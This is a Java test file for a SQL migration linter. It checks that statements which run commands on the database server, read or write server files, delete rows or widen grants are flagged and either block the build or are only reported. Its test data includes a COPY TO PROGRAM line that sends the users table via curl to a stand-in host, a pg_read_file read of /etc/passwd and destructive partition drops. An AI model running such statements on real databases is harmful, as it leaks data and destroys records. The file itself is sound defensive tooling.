package dev.migrationsafety.lint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.migrationsafety.report.Finding;
import dev.migrationsafety.report.Severity;
import dev.migrationsafety.sql.Dialect;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Statements that delete rows while the table stays, and statements that reach onto the database server, run end
 * to end (lexer, both readers, checks) on whole migrations: the finding lines users see, and which of them block
 * the build at the default threshold ({@code critical}) and which are only reported.
 */
class ServerAndRowLossChecksTest {
    private static final String PATH = "src/main/resources/db/migration/V7__ops.sql";

    private static List<Finding> lint(Dialect dialect, String sql) {
        ParsedFile file = StandardFileAnalyzer.INSTANCE.analyze(PATH, sql, dialect);
        return new MigrationLinter(dialect).lint(file, null);
    }

    private static List<String> lines(List<Finding> findings) {
        return findings.stream().map(Finding::formatWithSeverity).toList();
    }

    @Test
    void postgresqlServerAccessIsFoundOnItsLineAndBlocksWhileRoleChangesAreOnlyReported() {
        String sql =
                """
                CREATE ROLE reporting NOLOGIN;
                GRANT SELECT ON users TO reporting;
                COPY users TO PROGRAM 'curl -d @- https://example.invalid';
                COPY users (id, name) FROM stdin;
                1\tann
                \\.
                DO $$
                BEGIN
                  PERFORM pg_read_file('/etc/passwd');
                END $$;
                GRANT INSERT ON users TO PUBLIC;
                """;
        List<Finding> findings = lint(Dialect.POSTGRESQL, sql);
        assertEquals(
                List.of(
                        PATH + ":1:1: medium [role-change] creates role reporting - " + Check.ROLE_CHANGE.fix(),
                        PATH
                                + ":3:1: critical [server-program] COPY ... TO PROGRAM 'curl -d @- https://example.invalid'"
                                + " runs a command on the database server - " + Check.SERVER_PROGRAM.fix(),
                        PATH + ":7:1: critical [server-file] pg_read_file(...) reads a file of the database server - "
                                + Check.SERVER_FILE.fix(),
                        PATH + ":11:1: medium [grant-to-public] grants INSERT on users to PUBLIC: every role on the"
                                + " server may write - " + Check.GRANT_TO_PUBLIC.fix()),
                lines(findings));
        List<String> blocking = findings.stream()
                .filter(f -> Check.blocks(f, Severity.CRITICAL))
                .map(Finding::ruleId)
                .toList();
        assertEquals(List.of("server-program", "server-file"), blocking, "at the default failOn=critical");
    }

    @Test
    void mysqlRowLossAndServerFilesAreCriticalAndGrantsAreReported() {
        String sql =
                """
                ALTER TABLE events
                  DROP PARTITION p2019, p2020;
                ALTER TABLE events TRUNCATE PARTITION ALL;
                ALTER TABLE audit ENGINE=BLACKHOLE;
                SELECT * FROM users INTO OUTFILE '/tmp/users.csv';
                GRANT ALL ON *.* TO 'app'@'%';
                SET GLOBAL general_log = 1;
                """;
        List<Finding> findings = lint(Dialect.MYSQL, sql);
        assertEquals(
                List.of(
                        PATH + ":1:1: critical [drop-partition] drops partitions p2019, p2020 of events, deleting every"
                                + " row in them - " + Check.DROP_PARTITION.fix(),
                        PATH + ":3:1: critical [truncate-partition] truncates every partition of events, deleting"
                                + " all its rows - " + Check.TRUNCATE_PARTITION.fix(),
                        PATH + ":4:1: critical [blackhole-engine] sets the engine of audit to BLACKHOLE: its rows are"
                                + " deleted and every later write is discarded - " + Check.BLACKHOLE_ENGINE.fix(),
                        PATH
                                + ":5:1: critical [server-file] INTO OUTFILE '/tmp/users.csv' writes a file of the database"
                                + " server - " + Check.SERVER_FILE.fix(),
                        PATH + ":6:1: medium [grant-all] grants ALL on *.* to 'app'@'%', on every database of the"
                                + " server - " + Check.GRANT_ALL.fix(),
                        PATH + ":7:1: critical [alter-system] SET GLOBAL general_log changes the configuration of the"
                                + " whole server - " + Check.ALTER_SYSTEM.fix()),
                lines(findings));
    }

    @Test
    void dropOwnedAndInsteadRulesOnExistingTablesAreCriticalButNotOnAViewOfTheSameMigration() {
        List<Finding> findings = lint(
                Dialect.POSTGRESQL,
                """
                DROP OWNED BY legacy_app;
                CREATE RULE keep AS ON DELETE TO orders DO INSTEAD NOTHING;
                CREATE VIEW v_orders AS SELECT * FROM orders;
                CREATE RULE v_ins AS ON INSERT TO v_orders DO INSTEAD INSERT INTO orders VALUES (new.*);
                ALTER TABLE events DETACH PARTITION events_2019;
                """);
        assertEquals(
                List.of(
                        PATH + ":1:1: critical [drop-owned] drops every object owned by legacy_app in this database,"
                                + " with the rows of its tables - " + Check.DROP_OWNED.fix(),
                        PATH + ":2:1: critical [rewrite-rule] makes every DELETE on orders do nothing (DO INSTEAD"
                                + " NOTHING): those writes are silently discarded - " + Check.REWRITE_RULE.fix(),
                        PATH + ":5:1: medium [detach-partition] detaches partition events_2019 from events: its rows"
                                + " no longer belong to events - " + Check.DETACH_PARTITION.fix()),
                lines(findings));
    }

    @Test
    void severitiesFollowTheCatalogue() {
        for (Check c : List.of(
                Check.DROP_PARTITION,
                Check.TRUNCATE_PARTITION,
                Check.BLACKHOLE_ENGINE,
                Check.DISCARD_TABLESPACE,
                Check.DROP_OWNED,
                Check.REWRITE_RULE,
                Check.SERVER_PROGRAM,
                Check.SERVER_FILE,
                Check.UNTRUSTED_LANGUAGE,
                Check.ALTER_SYSTEM)) {
            assertTrue(c.blocks(Severity.CRITICAL), c.id() + " blocks at the default threshold");
        }
        for (Check c : List.of(Check.DETACH_PARTITION, Check.ROLE_CHANGE, Check.GRANT_ALL, Check.GRANT_TO_PUBLIC)) {
            assertFalse(c.blocks(Severity.CRITICAL), c.id() + " is reported, not blocking, at the default threshold");
            assertTrue(c.blocks(Severity.MEDIUM), c.id() + " blocks when failOn=medium");
        }
    }

    @Test
    void aDownScriptMayDropThePartitionsOfATableItsUpCreated() {
        String up =
                "CREATE TABLE events (id int, y int) PARTITION BY RANGE (y) (PARTITION p1 VALUES LESS THAN (2020));";
        String down = "ALTER TABLE events DROP PARTITION p1;\nALTER TABLE audit DROP PARTITION p1;\n";
        ParsedFile upFile = StandardFileAnalyzer.INSTANCE.analyze("db/migration/V8__events.sql", up, Dialect.MYSQL);
        ParsedFile downFile = StandardFileAnalyzer.INSTANCE.analyze("db/undo/U8__events.sql", down, Dialect.MYSQL);
        List<Finding> findings = new MigrationLinter(Dialect.MYSQL).lintDown(downFile, upFile, null);
        assertEquals(List.of("drop-partition"), Ops.ids(findings));
        assertEquals(2, findings.get(0).line());
    }
}
